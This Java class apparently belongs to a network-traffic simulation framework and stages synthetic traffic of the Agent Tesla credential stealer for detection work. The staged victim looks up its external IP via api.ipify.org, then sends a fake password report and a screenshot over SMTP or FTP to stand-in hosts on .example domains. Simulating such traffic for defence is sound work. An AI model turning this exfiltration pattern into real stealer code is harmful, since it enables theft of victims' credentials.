package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Bodies;
import wolfhound.scenarios.stage.Ftp;
import wolfhound.scenarios.stage.Machine;
import wolfhound.scenarios.stage.Mail;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Smtp;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A stealer that asks for its own address in the world and sends the passwords of its victim by
/// mail or file transfer.
final class AgentTesla extends Guilty {
    AgentTesla() {
        super(
                "agent-tesla",
                "Agent Tesla",
                "A stealer looks up its outside address and sends its victim's passwords away",
                "The content convicts: it names the very machine and person it comes from");
    }

    @Override
    public void stage(Stage stage) {
        Actor laptop = stage.workstation("laptop", Platform.WINDOWS);
        laptop.joins().isInfected(Behaviour.THEFT).pauses(4);
        Ask whoAmI =
                Ask.get("/")
                        .with(
                                "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:99.0) Gecko/20100101 Firefox/99.0",
                                "Host",
                                "Connection: Keep-Alive");
        Web.to(laptop, "api.ipify.org")
                .asks(whoAmI, Answer.ok("text/plain", "203.0.113.77"))
                .closes();
        laptop.pauses(3);
        if (stage.random().nextBoolean()) {
            byMail(stage, laptop);
        } else {
            byFileTransfer(stage, laptop);
        }
    }

    private static void byMail(Stage stage, Actor laptop) {
        String account = "logs@" + stage.word(8) + ".example";
        Machine server =
                laptop.knows(named(stage, "mail.hosting.example"))
                        .stage()
                        .site("mail.hosting.example");
        Machine self = laptop.machine();
        Mail passwords =
                Mail.from(account, account)
                        .with(
                                "MIME-Version: 1.0",
                                "From: " + account,
                                "To: " + account,
                                "Date: " + "Tue, 3 Mar 2026 09:11:42 +0000")
                        .with(
                                "Subject: PW_" + self.userName() + "/" + self.hostName(),
                                "Content-Type: text/html; charset=us-ascii")
                        .text(report(self));
        Mail screen =
                Mail.from(account, account)
                        .with("From: " + account, "To: " + account)
                        .with("Subject: SC_" + self.userName() + "/" + self.hostName())
                        .text(report(self))
                        .attached("screen.jpeg", "image/jpeg", new Bodies(stage).jpeg(9_000));
        Smtp.to(laptop, server, 587, self.hostName())
                .logsIn(account, stage.word(10))
                .sends(passwords)
                .quits();
        laptop.pauses(20);
        Smtp.to(laptop, server, 587, self.hostName())
                .logsIn(account, stage.word(10))
                .sends(screen)
                .quits();
    }

    private static void byFileTransfer(Stage stage, Actor laptop) {
        Machine server =
                laptop.knows(named(stage, "ftp.hosting.example"))
                        .stage()
                        .site("ftp.hosting.example");
        Machine self = laptop.machine();
        String stamp = "_2026_03_03_09_11_42";
        String name = "PW_" + self.userName() + "-" + self.hostName() + stamp + ".html";
        Ftp.to(laptop, server, "logs@" + stage.word(8) + ".example", stage.word(10))
                .stores(name, report(self).getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .quits();
        laptop.pauses(20);
        String screen = "SC_" + self.userName() + "-" + self.hostName() + stamp + ".jpeg";
        Ftp.to(laptop, server, "logs@" + stage.word(8) + ".example", stage.word(10))
                .stores(screen, new Bodies(stage).jpeg(12_000))
                .quits();
    }

    private static String named(Stage stage, String domain) {
        stage.site(domain);
        return domain;
    }

    private static String report(Machine self) {
        return "Time: 03/03/2026 09:11:42<br>User Name: "
                + self.userName()
                + "<br>Computer Name: "
                + self.hostName()
                + "<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Intel(R) Core(TM) i5-8250U CPU @ 1.60GHz"
                + "<br>RAM: 8063.5 MB<br>IP Address: 203.0.113.77<br><hr>"
                + "URL: https://www.social.example/login<br>Username: "
                + self.userName()
                + "@mail.example"
                + "<br>Password: correct-horse<br>Application: Chrome<br><hr>"
                + "URL: https://bank.example/<br>Username: "
                + self.userName()
                + "<br>Password: battery-staple<br>Application: Edge<br>";
    }
}
